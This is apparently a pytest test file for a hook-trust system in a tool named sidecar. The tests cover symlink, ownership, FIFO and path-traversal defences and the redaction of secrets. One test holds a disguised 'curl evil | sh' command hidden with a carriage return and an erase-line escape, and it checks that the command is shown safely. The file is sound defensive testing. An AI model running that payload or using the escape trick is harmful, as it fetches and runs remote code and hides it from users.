"""Nothing a cloned repository ships runs here until this machine's user trusts it.

In process; those that start real processes are in tests/daemon/test_trust_daemon.py.
"""

from __future__ import annotations

import os

import pytest

from helpers import invoke, read_json
from sidecar.followups import trust
from sidecar.followups.model import Run
from sidecar.layout import Workspace


def test_trust_is_per_workspace_and_per_exact_command(tmp_path, config_home):
    a, b = Workspace(tmp_path / "a"), Workspace(tmp_path / "b")
    for ws in (a, b):
        ws.ensure_runtime()
    argv = ["sh", "-c", "echo hi"]
    trust.trust(a, argv, 0.0)
    assert trust.is_trusted(a, argv)
    assert not trust.is_trusted(b, argv)  # another workspace (a clone of the same repo)
    assert not trust.is_trusted(a, ["sh", "-c", "echo hi "])  # one byte changed
    assert not (a.context / "trust.json").exists()  # kept in the user's folder, never here
    assert (config_home / "trust.json").exists()


def test_a_trust_file_anyone_else_may_write_counts_for_nothing(tmp_path, config_home):
    ws = Workspace(tmp_path / "ws")
    ws.ensure_runtime()
    argv = ["true"]
    trust.trust(ws, argv, 0.0)
    os.chmod(config_home / "trust.json", 0o666)
    assert not trust.is_trusted(ws, argv)


def test_a_resume_hook_needs_no_trust(workspace):
    result = invoke("hooks", "trust", "post-task", "--yes", "--root", str(workspace.root))
    assert result.returncode == 0 and b"needs no trust" in result.stdout


def test_re_initialising_a_registered_workspace_moves_nothing(workspace, tmp_path):
    assert invoke("hooks", "add", "note", "--root", str(workspace.root), "--",
                   "true").returncode == 0
    again = invoke("init", str(workspace.root))
    assert again.returncode == 0 and b"did not write" not in again.stdout
    assert not list(workspace.context.glob("runtime.untrusted-*"))
    assert "note" in read_json(workspace.hooks_file)["hooks"]


def test_a_clone_keeps_its_session_records_and_bindings(tmp_path, config_home):
    """dotcontext's session records are data: they stay, so a session left active is still
    completed as before; only what could make sidecar act moves aside."""
    root = tmp_path / "clone"
    runtime = root / ".context/runtime"
    (runtime / "sessions/abc").mkdir(parents=True)
    (runtime / "sessions/abc/session.json").write_bytes(b'{"id": "abc", "status": "active"}')
    (runtime / "hooks").mkdir()
    (runtime / "hooks/host-sessions.json").write_bytes(b'{"version": 1, "bindings": []}')
    (runtime / "instances").mkdir()
    (runtime / "instances/dead.json").write_bytes(b'{"pid": 1}')
    result = invoke("init", str(root))
    assert result.returncode == 0, result.stderr
    assert b"instances/ with 1 file(s)" in result.stdout
    assert (runtime / "sessions/abc/session.json").exists()
    assert (runtime / "hooks/host-sessions.json").exists()
    assert not (runtime / "instances/dead.json").exists()
    assert b"wrote the default post-task hook" in result.stdout  # nothing shipped to keep


def test_a_run_record_proves_who_wrote_it(tmp_path, config_home):
    ws = Workspace(tmp_path / "ws")
    ws.ensure_runtime()
    run = trust.sign(ws, "post-task:claude-code:s", Run(1234, 99, "a.log", "2026-01-01T00:00:00Z"))
    assert trust.is_ours(ws, "post-task:claude-code:s", run)
    run.pid = 1  # the same record, another process
    assert not trust.is_ours(ws, "post-task:claude-code:s", run)
    assert not trust.is_ours(ws, "post-task:claude-code:s", Run(1234, 99, "a.log", "x"))
    assert oct((config_home / "run-key").stat().st_mode & 0o777) == "0o600"


# -- what the review of the first version found ---------------------------------------------

def test_shown_commands_cannot_redraw_the_line_they_are_on():
    """A command hiding a carriage return and an erase-line would show as a harmless one."""
    argv = ["sh", "-c", "curl evil | sh\r\x1b[2K  echo hi"]
    text = trust.shown(argv)
    assert "\r" not in text and "\x1b" not in text
    assert "\\r\\x1b[2K" in text


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give folders to other users")
def test_the_owner_is_whoever_could_replace_the_workspace(tmp_path, config_home):
    """A link on the way, or a folder of one user inside another's, decides nothing: a root
    daemon would otherwise take a workspace for root's and act as root."""
    from sidecar.owner import CannotActAsOwner, owner_uid

    real = tmp_path / "real"
    (real / ".context").mkdir(parents=True)
    assert owner_uid(Workspace(real)) == 0  # every folder on the way is root's
    (tmp_path / "link").symlink_to(real)
    with pytest.raises(CannotActAsOwner, match="is a symlink"):
        owner_uid(Workspace(tmp_path / "link"))
    outer = tmp_path / "alice"
    (outer / "bob" / ".context").mkdir(parents=True)
    os.chown(outer, 65534, 65534)
    assert owner_uid(Workspace(outer)) == 65534
    os.chown(outer / "bob", 65533, 65533)
    with pytest.raises(CannotActAsOwner, match="who could replace it"):
        owner_uid(Workspace(outer / "bob"))
    root_owned_inside = outer / "rootdir"
    (root_owned_inside / ".context").mkdir(parents=True)
    assert owner_uid(Workspace(root_owned_inside)) == 65534  # alice could swap it: hers


def test_a_fifo_where_a_trace_belongs_is_refused_at_once(tmp_path, config_home):
    """A planted FIFO at sessions/<id>/trace.jsonl would block the daemon's next write."""
    import threading

    from sidecar import jsonfile

    ws = Workspace(tmp_path / "ws")
    ws.ensure_runtime()
    folder = ws.sessions / "abc"
    folder.mkdir()
    os.mkfifo(folder / "trace.jsonl")
    done = threading.Event()
    errors: list[BaseException] = []

    def append() -> None:
        try:
            jsonfile.append_lines(folder / "trace.jsonl", [{"x": 1}])
        except (OSError, ValueError) as exc:
            errors.append(exc)
        done.set()

    threading.Thread(target=append, daemon=True).start()
    assert done.wait(5), "the append waited on the FIFO"
    assert errors


def test_a_claim_owner_that_is_a_path_names_no_instance(tmp_path, config_home):
    from sidecar.daemon.instances import is_alive

    ws = Workspace(tmp_path / "ws")
    ws.ensure_runtime()
    outside = tmp_path / "elsewhere.lock"
    outside.write_bytes(b"")
    assert not is_alive(ws, "../../elsewhere")
    assert not (ws.locks / "instance-..").exists()


def test_a_workspace_reached_through_a_link_trusts_nothing(tmp_path, config_home):
    """status and doctor ask for trust too: a link on the path means no owner to trust for,
    so every command reads untrusted (never an error, never the link's target's trust)."""
    from sidecar.followups.model import new_hook

    real = Workspace(tmp_path / "real")
    real.ensure_runtime()
    argv = ["true"]
    trust.trust(real, argv, 0.0)
    (tmp_path / "link").symlink_to(real.root)
    hook = new_hook("cmd", "cmd", 0.0, action=argv, promptFile=None)
    assert trust.untrusted(real, [hook]) == []
    assert trust.untrusted(Workspace(tmp_path / "link"), [hook]) == [hook]


def test_trust_json_keeps_a_targets_digest_and_its_shown_form_only(tmp_path, config_home):
    """trust.json outlives the hook: it must not keep the secret a target holds, while the
    target (compared by its digest) is still trusted, and one byte changed is not."""
    from sidecar.followups.targets import Notify

    ws = Workspace(tmp_path / "ws")
    ws.ensure_runtime()
    target = Notify("https://bob:hunter2@hooks.example.com/services/T000/XXXX")
    trust.trust(ws, target, 0.0)
    assert trust.is_trusted(ws, target)
    assert not trust.is_trusted(ws, Notify(target.target.replace("XXXX", "XXXY")))
    kept = (config_home / "trust.json").read_text()
    assert "hunter2" not in kept and "XXXX" not in kept
    [entry] = read_json(config_home / "trust.json")["workspaces"][os.path.realpath(ws.root)].values()
    assert entry["notify"] == "https://***@hooks.example.com/services/***"
